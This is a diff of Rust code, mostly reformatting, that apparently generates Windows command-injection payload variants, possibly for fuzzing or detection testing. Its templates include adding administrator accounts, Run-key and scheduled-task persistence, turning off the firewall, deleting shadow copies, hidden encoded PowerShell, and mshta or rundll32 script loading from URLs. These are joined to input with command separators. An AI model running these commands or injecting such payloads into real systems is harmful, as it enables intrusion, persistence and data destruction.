@@ -38,7 +38,11 @@ fn url(rng: &mut Rng, ext: &str) -> String {
 }
 
 fn drop_path(rng: &mut Rng, ext: &str) -> String {
-    format!("{}\\{}.{ext}", one(rng, &["C:\\Users\\Public", "C:\\Windows\\Temp", "%TEMP%", "C:\\ProgramData", "%APPDATA%"]), word(rng, 1, 8))
+    format!(
+        "{}\\{}.{ext}",
+        one(rng, &["C:\\Users\\Public", "C:\\Windows\\Temp", "%TEMP%", "C:\\ProgramData", "%APPDATA%"]),
+        word(rng, 1, 8)
+    )
 }
 
 /// UTF-16LE base64 of a PowerShell command, as `-EncodedCommand` takes it.
@@ -59,17 +63,72 @@ fn ps_b64(text: &str) -> String {
 fn simple(rng: &mut Rng) -> String {
     let user = word(rng, 4, 8);
     match rng.below(14) {
-        0 => one(rng, &["whoami", "whoami /all", "whoami /priv", "ipconfig /all", "systeminfo", "tasklist /v", "ver", "hostname", "net view", "getmac"]).to_string(),
-        1 => format!("dir {}", one(rng, &["C:\\", "C:\\Users", "C:\\inetpub\\wwwroot", "c:\\windows\\system32\\config", "%USERPROFILE%\\Desktop", "/a /s C:\\"])),
-        2 => format!("type {}", one(rng, &["C:\\Windows\\win.ini", "C:\\boot.ini", "%SYSTEMROOT%\\win.ini", "C:\\inetpub\\wwwroot\\web.config", "C:\\Windows\\System32\\drivers\\etc\\hosts"])),
+        0 => one(
+            rng,
+            &[
+                "whoami",
+                "whoami /all",
+                "whoami /priv",
+                "ipconfig /all",
+                "systeminfo",
+                "tasklist /v",
+                "ver",
+                "hostname",
+                "net view",
+                "getmac",
+            ],
+        )
+        .to_string(),
+        1 => format!(
+            "dir {}",
+            one(
+                rng,
+                &["C:\\", "C:\\Users", "C:\\inetpub\\wwwroot", "c:\\windows\\system32\\config", "%USERPROFILE%\\Desktop", "/a /s C:\\"]
+            )
+        ),
+        2 => format!(
+            "type {}",
+            one(
+                rng,
+                &[
+                    "C:\\Windows\\win.ini",
+                    "C:\\boot.ini",
+                    "%SYSTEMROOT%\\win.ini",
+                    "C:\\inetpub\\wwwroot\\web.config",
+                    "C:\\Windows\\System32\\drivers\\etc\\hosts"
+                ]
+            )
+        ),
         3 => format!("net user {user} {}{} /add", word(rng, 4, 8), rng.below(1000)),
         4 => format!("net localgroup administrators {user} /add"),
         5 => format!("ping -n {} {}", rng.range(1, 30), host(rng)),
         6 => format!("timeout /t {}", rng.range(1, 30)),
-        7 => format!("reg query {}", one(rng, &["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "HKLM\\SYSTEM\\CurrentControlSet\\Services"])),
+        7 => format!(
+            "reg query {}",
+            one(
+                rng,
+                &[
+                    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
+                    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                    "HKLM\\SYSTEM\\CurrentControlSet\\Services"
+                ]
+            )
+        ),
         8 => format!("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {user} /d {} /f", drop_path(rng, "exe")),
         9 => format!("schtasks /create /tn {user} /tr {} /sc {}", drop_path(rng, "exe"), one(rng, &["onlogon", "minute", "daily"])),
-        10 => one(rng, &["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable", "vssadmin delete shadows /all /quiet", "sc query", "tasklist /svc", "wmic os get caption", "wmic process list brief"]).to_string(),
+        10 => one(
+            rng,
+            &[
+                "netsh advfirewall set allprofiles state off",
+                "netsh firewall set opmode disable",
+                "vssadmin delete shadows /all /quiet",
+                "sc query",
+                "tasklist /svc",
+                "wmic os get caption",
+                "wmic process list brief",
+            ],
+        )
+        .to_string(),
         11 => format!("taskkill /f /im {}.exe", word(rng, 3, 8)),
         12 => format!("sc create {user} binPath= {}", drop_path(rng, "exe")),
         _ => format!("tasklist /fi \"imagename eq {}.exe\"", word(rng, 3, 8)),
@@ -93,14 +152,33 @@ fn powershell_code(rng: &mut Rng) -> String {
 fn command(rng: &mut Rng) -> String {
     match rng.below(12) {
         0..=2 => simple(rng),
-        3 | 4 => format!("{} {} {}", one(rng, &["cmd", "cmd.exe", "CMD", "C:\\Windows\\System32\\cmd.exe"]), one(rng, &["/c", "/k", "/C", "/q /c", "/r"]), simple(rng)),
+        3 | 4 => format!(
+            "{} {} {}",
+            one(rng, &["cmd", "cmd.exe", "CMD", "C:\\Windows\\System32\\cmd.exe"]),
+            one(rng, &["/c", "/k", "/C", "/q /c", "/r"]),
+            simple(rng)
+        ),
         5 => {
-            let flags = one(rng, &["-nop -w hidden -enc", "-NoP -NonI -W Hidden -Enc", "-e", "-ec", "-EncodedCommand", "-nop -exec bypass -enc", "-ep bypass -e"]);
+            let flags = one(
+                rng,
+                &[
+                    "-nop -w hidden -enc",
+                    "-NoP -NonI -W Hidden -Enc",
+                    "-e",
+                    "-ec",
+                    "-EncodedCommand",
+                    "-nop -exec bypass -enc",
+                    "-ep bypass -e",
+                ],
+            );
             let code = powershell_code(rng);
             format!("{} {flags} {}", one(rng, &["powershell", "powershell.exe", "pwsh"]), ps_b64(&code))
         }
         6 => {
-            let flags = one(rng, &["-c", "-command", "-nop -w hidden -c", "-NoProfile -ExecutionPolicy Bypass -Command", "-exec bypass -c", "-noni -nop -c"]);
+            let flags = one(
+                rng,
+                &["-c", "-command", "-nop -w hidden -c", "-NoProfile -ExecutionPolicy Bypass -Command", "-exec bypass -c", "-noni -nop -c"],
+            );
             format!("{} {flags} \"{}\"", one(rng, &["powershell", "powershell.exe", "pwsh"]), powershell_code(rng))
         }
         7 => powershell_code(rng),
@@ -115,7 +193,10 @@ fn command(rng: &mut Rng) -> String {
             1 => format!("mshta {}", url(rng, "hta")),
             2 => format!("mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"{}\"\"\")", word(rng, 3, 8)),
             3 => format!("rundll32 {},{}", drop_path(rng, "dll"), one(rng, &["DllMain", "EntryPoint", "Run", "Start"])),
-            _ => format!("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{}\")", url(rng, "sct")),
+            _ => format!(
+                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{}\")",
+                url(rng, "sct")
+            ),
         },
         10 => match rng.below(3) {
             0 => format!("wmic process call create \"{}\"", drop_path(rng, "exe")),
@@ -123,7 +204,11 @@ fn command(rng: &mut Rng) -> String {
             _ => format!("cscript //E:jscript {}", drop_path(rng, "txt")),
         },
         _ => match rng.below(2) {
-            0 => format!("for /f \"tokens=*\" %i in ('{}') do {} %i", one(rng, &["whoami", "hostname", "ver", "type C:\\Windows\\win.ini"]), one(rng, &["echo", "nslookup", "ping -n 1"])),
+            0 => format!(
+                "for /f \"tokens=*\" %i in ('{}') do {} %i",
+                one(rng, &["whoami", "hostname", "ver", "type C:\\Windows\\win.ini"]),
+                one(rng, &["echo", "nslookup", "ping -n 1"])
+            ),
             _ => format!("if exist C:\\Windows\\win.ini {}", simple(rng)),
         },
     }
@@ -177,7 +262,12 @@ impl Family for ShellWindows {
     fn generate(&self, rng: &mut Rng) -> Variant {
         let mut line = command(rng);
         let mut names: Vec<&'static str> = Vec::new();
-        let is_ps = line.starts_with("IEX") || line.starts_with("iex") || line.starts_with("iwr") || line.starts_with("Invoke") || line.starts_with("Start-") || line.starts_with("(New");
+        let is_ps = line.starts_with("IEX")
+            || line.starts_with("iex")
+            || line.starts_with("iwr")
+            || line.starts_with("Invoke")
+            || line.starts_with("Start-")
+            || line.starts_with("(New");
         if rng.chance(0.6) {
             match rng.below(6) {
                 0 if !is_ps => {
@@ -198,7 +288,10 @@ impl Family for ShellWindows {
                 }
                 4 if line.starts_with("cmd ") || line.starts_with("cmd.exe ") || line.starts_with("CMD ") => {
                     let rest = line.split_once(' ').map_or("", |(_, r)| r).to_string();
-                    line = format!("{} {rest}", one(rng, &["%COMSPEC%", "%comspec%", "%SystemRoot%\\System32\\cmd.exe", "%windir%\\system32\\cmd.exe"]));
+                    line = format!(
+                        "{} {rest}",
+                        one(rng, &["%COMSPEC%", "%comspec%", "%SystemRoot%\\System32\\cmd.exe", "%windir%\\system32\\cmd.exe"])
+                    );
                     names.push("comspec");
                 }
                 _ if is_ps => {
@@ -226,7 +319,8 @@ impl Family for ShellWindows {
             3 => format!("{}.txt\"", word(rng, 3, 8)),
             _ => word(rng, 3, 8),
         };
-        let sep = if is_ps { one(rng, &[";", "|", "&", "\n", "; "]) } else { one(rng, &["&", "&&", "|", "||", "\n", " & ", " && ", " | "]) };
+        let sep =
+            if is_ps { one(rng, &[";", "|", "&", "\n", "; "]) } else { one(rng, &["&", "&&", "|", "||", "\n", " & ", " && ", " | "]) };
         let suffix = one(rng, &["", "", "&", " &", "\"", "|", " REM"]);
         let payload = if rng.chance(0.15) { line } else { format!("{prefix}{sep}{line}{suffix}") };
         let (payload, transport) = mutate::transport_layer(rng, &payload);
